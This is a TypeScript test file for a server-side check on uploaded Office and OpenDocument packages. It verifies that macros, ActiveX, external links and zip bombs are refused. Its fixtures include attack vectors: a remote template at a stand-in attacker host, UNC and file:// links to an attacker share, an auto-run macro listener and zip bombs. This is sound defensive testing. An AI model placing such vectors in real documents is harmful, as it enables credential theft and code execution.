import { unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import {
  craftedTextDocument,
  craftedWordDocument,
  craftedWorkbook,
  deflatedZip,
  wordDocument,
  workbook,
  zipBomb,
} from "../../tests/sample-files";
import { inspectPackage, PACKAGE_LIMITS } from "./office-package.server";

// Issue 39 finding 4: what an Office package holds, not only its first bytes (docs/decisions/165).
// Every file here is built by the test, as Office or LibreOffice lays it out.

const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const MS_REL = "http://schemas.microsoft.com/office/2006/relationships";
const relationship = (id: string, type: string, target: string, external = false) =>
  `<Relationship Id="${id}" Type="${type}" Target="${target}"${external ? ' TargetMode="External"' : ""}/>`;

describe("inspectPackage", () => {
  it("accepts ordinary documents, workbooks and OpenDocument texts", async () => {
    expect(await inspectPackage(craftedWordDocument())).toBe("ok");
    expect(await inspectPackage(wordDocument())).toBe("ok");
    expect(await inspectPackage(workbook())).toBe("ok");
    expect(await inspectPackage(craftedWorkbook())).toBe("ok");
    expect(await inspectPackage(craftedTextDocument())).toBe("ok");
  });

  it("accepts web and mail links, printer settings and an embedded workbook that holds nothing active", async () => {
    const links = craftedWordDocument({
      relationships:
        relationship("rId5", `${REL}/hyperlink`, "https://www.example.com/fees", true) +
        relationship("rId6", `${REL}/hyperlink`, "mailto:sarah@example.com", true) +
        relationship("rId7", `${REL}/styles`, "styles.xml"),
    });
    expect(await inspectPackage(links)).toBe("ok");
    const printer = craftedWorkbook({
      types: `<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>`,
      parts: { "xl/printerSettings/printerSettings1.bin": new Uint8Array(64).fill(7) },
    });
    expect(await inspectPackage(printer)).toBe("ok");
    const chart = craftedWordDocument({
      types: `<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>`,
      parts: { "word/embeddings/Microsoft_Excel_Worksheet.xlsx": craftedWorkbook() },
    });
    expect(await inspectPackage(chart)).toBe("ok");
  });

  it("refuses macros: a VBA project, a macro-enabled type, an Excel 4 macro sheet, ActiveX and OLE objects", async () => {
    const vba = craftedWordDocument({ parts: { "word/vbaProject.bin": new Uint8Array([0xd0, 0xcf, 0x11, 0xe0]) } });
    expect(await inspectPackage(vba)).toBe("active-content");
    // the project under another name, found by its content type or its relationship
    const renamedByType = craftedWordDocument({
      types: `<Override PartName="/word/project.dat" ContentType="application/vnd.ms-office.vbaProject"/>`,
      parts: { "word/project.dat": new Uint8Array(8) },
    });
    expect(await inspectPackage(renamedByType)).toBe("active-content");
    const renamedByRelationship = craftedWordDocument({
      relationships: relationship("rId9", `${MS_REL}/vbaProject`, "project.dat"),
      parts: { "word/project.dat": new Uint8Array(8) },
    });
    expect(await inspectPackage(renamedByRelationship)).toBe("active-content");
    expect(await inspectPackage(wordDocument(true))).toBe("active-content");
    const macroSheet = craftedWorkbook({
      types: `<Override PartName="/xl/sheets/auto.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>`,
      parts: { "xl/sheets/auto.xml": "<xm:macrosheet/>" },
    });
    expect(await inspectPackage(macroSheet)).toBe("active-content");
    const activeX = craftedWordDocument({ parts: { "word/activeX/activeX1.xml": "<ax:ocx/>" } });
    expect(await inspectPackage(activeX)).toBe("active-content");
    // any other binary part: an OLE object, or a part of no declared type
    const ole = craftedWordDocument({ parts: { "word/embeddings/oleObject1.bin": new Uint8Array(16) } });
    expect(await inspectPackage(ole)).toBe("active-content");
    const embeddedMacros = craftedWordDocument({ parts: { "word/embeddings/Sheet.xlsm": craftedWorkbook() } });
    expect(await inspectPackage(embeddedMacros)).toBe("active-content");
  });

  it("refuses OpenDocument's Basic libraries, scripts and event listeners", async () => {
    expect(await inspectPackage(craftedTextDocument({ "Basic/Standard/Module1.xml": "<script:module/>" }))).toBe(
      "active-content",
    );
    expect(await inspectPackage(craftedTextDocument({ "Scripts/python/run.py": "import os" }))).toBe("active-content");
    const listener = `<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:s="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><office:event-listeners><s:event-listener s:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Run?language=Basic&amp;location=document"/></office:event-listeners></office:scripts></office:document-content>`;
    expect(await inspectPackage(craftedTextDocument({}, listener))).toBe("active-content");
  });

  it("refuses relationships to anything outside the package but web and mail links", async () => {
    const template = craftedWordDocument({
      relationships: relationship("rId1", `${REL}/attachedTemplate`, "https://attacker.example/t.dotm", true),
    });
    expect(await inspectPackage(template)).toBe("external");
    // in any relationships part, in any case, however the attribute is written
    const image = deflatedZip({
      ...unzipSync(craftedWordDocument()),
      "word/_rels/header1.xml.rels": `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id='rId1' Type='${REL}/image' Target='\\\\attacker\\share\\a.png' TargetMode='&#69;xternal'/></Relationships>`,
    });
    expect(await inspectPackage(image)).toBe("external");
    const fileLink = craftedWordDocument({
      relationships: relationship("rId5", `${REL}/hyperlink`, "file://attacker/share/run.exe", true),
    });
    expect(await inspectPackage(fileLink)).toBe("external");
    // an Excel link to another workbook (or DDE) is refused whatever its target
    const externalLink = craftedWorkbook({
      relationships: relationship("rId3", `${REL}/externalLink`, "externalLinks/externalLink1.xml"),
    });
    expect(await inspectPackage(externalLink)).toBe("active-content");
    // within an embedded workbook too
    const chart = craftedWordDocument({
      parts: {
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": craftedWorkbook({
          relationships: relationship("rId3", `${REL}/oleObject`, "https://attacker.example/x", true),
        }),
      },
    });
    expect(await inspectPackage(chart)).toBe("active-content");
  });

  it("refuses a zip bomb stating its size, before inflating any of it", async () => {
    // 2 GiB of zeros in a file of about 2 MB, the workbook
    const bomb = zipBomb(2048);
    expect(bomb.length).toBeLessThan(2_500_000);
    const started = performance.now();
    expect(await inspectPackage(bomb)).toBe("too-large");
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it("refuses a zip bomb that understates its size as soon as it inflates past what it stated", async () => {
    // states 64 KiB, holds 512 MiB: inflating all of it would take seconds and half a gigabyte
    const bomb = zipBomb(512, 64 * 1024);
    const started = performance.now();
    expect(await inspectPackage(bomb)).toBe("too-large");
    expect(performance.now() - started).toBeLessThan(2_000);
  });

  it("refuses an entry whose compression ratio is past the limit, and too many entries or bytes", async () => {
    // 2 MiB of zeros: ratio about 1,000
    expect(await inspectPackage(zipBomb(2))).toBe("too-large");
    // under the ratio's threshold, zeros pass
    expect(await inspectPackage(craftedWorkbook({ parts: { "xl/blank.xml": "0".repeat(50_000) } }))).toBe("ok");
    const many = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`word/media/image${i}.png`, `${i}`]));
    expect(await inspectPackage(craftedWordDocument({ parts: many }), { ...PACKAGE_LIMITS, entries: 20 })).toBe(
      "too-large",
    );
    expect(await inspectPackage(craftedWordDocument({ parts: many }), { ...PACKAGE_LIMITS, entries: 40 })).toBe("ok");
    const random = new Uint8Array(300_000).map((_, i) => (i * 2654435761) >>> 24);
    const big = craftedWordDocument({ parts: { "word/media/a.png": random, "word/media/b.png": random } });
    expect(await inspectPackage(big, { ...PACKAGE_LIMITS, unpackedBytes: 500_000 })).toBe("too-large");
    expect(await inspectPackage(big, { ...PACKAGE_LIMITS, unpackedBytes: 700_000 })).toBe("ok");
  });

  it("calls a damaged zip unreadable", async () => {
    const whole = craftedWordDocument();
    expect(await inspectPackage(whole.slice(0, whole.length - 30))).toBe("unreadable");
    expect(await inspectPackage(new Uint8Array(100))).toBe("unreadable");
  });
});
